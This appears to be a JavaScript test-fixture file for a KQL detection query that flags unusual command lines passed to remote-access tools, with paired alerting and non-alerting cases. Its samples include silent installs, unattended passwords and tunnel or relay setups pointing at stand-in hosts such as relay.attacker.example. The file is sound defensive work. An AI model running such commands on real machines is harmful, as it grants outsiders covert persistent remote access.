// SPDX-License-Identifier: MIT
// unusual-command-lines.kql: what a listed process is told, and by whom.
'use strict';

const groups = { d1: 'Helpdesk', d2: 'Finance' };

function line(text, rest = {}) {
	return { FileName: 'AnyDesk.exe', ProcessCommandLine: text,
		InitiatingProcessFileName: 'explorer.exe', ...rest };
}

function case_(proves, events, rows, approvals) {
	return { proves, query: 'unusual-command-lines', groups, approvals,
		events: { DeviceProcessEvents: [events].flat() }, rows };
}

const unusual = [
	['AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
		'silent installation, installation of a service'],
	['C:\\ProgramData\\anydesk.exe --set-password', 'unattended password'],
	['rustdesk.exe --password S3cret', 'unattended password'],
	['rustdesk.exe --silent-install', 'silent installation'],
	['rustdesk.exe --install-service', 'installation of a service'],
	['rustdesk.exe --config 9JSPSvJzNrBDas', 'relay or account'],
	['"C:\\x\\rustdesk-host=relay.attacker.example,key=x=.exe"',
		'relay or account'],
	['setup.exe /VERYSILENT /SUPPRESSMSGBOXES', 'silent installation'],
	['setup.exe /S', 'silent installation'],
	['tvnserver.exe -install -silent',
		'silent installation, installation of a service'],
	['meshagent.exe -fullinstall', 'installation of a service'],
	['winvnc.exe -connect 192.0.2.1::5500', 'relay or account'],
	['cloudflared.exe service install eyJhIjoi', 'installation of a service'],
	['cloudflared tunnel run --token eyJhIjoi', 'relay or account'],
	['tacticalrmm.exe -m install --api https://api.attacker.example --auth x',
		'installation of a service, relay or account'],
	['TeamViewer.exe assignment --id 0001', 'relay or account'],
	['AteraAgent.exe /i /IntegratorLogin="a@b.example" /CompanyId="1"',
		'relay or account'],
	['x.exe "?e=Access&y=Guest&h=relay.attacker.example&p=443"',
		'relay or account'],
	['remoting_start_host.exe --pin=123456', 'unattended password'],
	['zerotier-one_x64.exe -q join 632ea2908589098f', 'relay or account'],
	['dwagent.exe -silent key=281-407-902', 'silent installation'],
	['tailscale.exe up --login-server=https://hs.attacker.example',
		'relay or account'],
];
const usual = ['"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
	'AnyDesk.exe --control', 'AnyDesk.exe', 'AnyDesk.exe --silently',
	'AnyDesk.exe C:\\install\\silent.txt', '',
	'AnyDesk.exe --get-id --passwordless', 'x.exe -s on -q', 'x.exe join us'];
const plain = 'AnyDesk.exe';

module.exports = [
	...unusual.map(([text, Why]) => case_(`${text} is unusual`, line(text),
		[{ Tool: 'AnyDesk', Process: 'anydesk.exe', Why }])),
	...usual.map((text) => case_(`'${text}' is not`, line(text), [])),
	...['WINWORD.EXE', 'powershell.exe', 'mshta.exe', 'w3wp.exe'].map((name) =>
		case_(`${name} starts none`, line(plain,
			{ InitiatingProcessFileName: name }),
		[{ Why: `started by ${name.toLowerCase()}` }])),
	case_('what it is told and by whom', line('AnyDesk.exe --silent',
		{ InitiatingProcessFileName: 'wscript.exe' }),
	[{ Why: 'silent installation, started by wscript.exe' }]),
	case_('another process is none of ours',
		line('x --silent', { FileName: 'setup.exe' }), []),
	case_('low fidelity is left out',
		line('x --silent', { FileName: 'agent.exe' }), []),
	case_('one row for each device, with the latest event',
		[line('AnyDesk.exe --silent', { ago: 60 }), line('x --set-password'),
			line('AnyDesk.exe --silent', { DeviceId: 'd2' })],
		[{ DeviceId: 'd1', Events: 2, Why: 'silent installation', AllWhy:
			['silent installation', 'unattended password'], ReportId: 100 },
		{ DeviceId: 'd2' }]),
	case_('the approved relay is silent',
		line('x.exe "?e=Access&h=relay.corp.example&p=443"'), [],
		[{ tool: 'AnyDesk', host: 'relay.corp.example' }]),
	case_('another one alerts',
		line('x.exe "?e=Access&h=relay.attacker.example&p=443"'),
		[{ Tool: 'AnyDesk' }],
		[{ tool: 'AnyDesk', host: 'relay.corp.example' }]),
	case_('the approved department is silent and the others are not',
		[line('x --silent'), line('x --silent', { DeviceId: 'd2' })],
		[{ DeviceId: 'd2' }], [{ device_group: 'Helpdesk' }]),
];
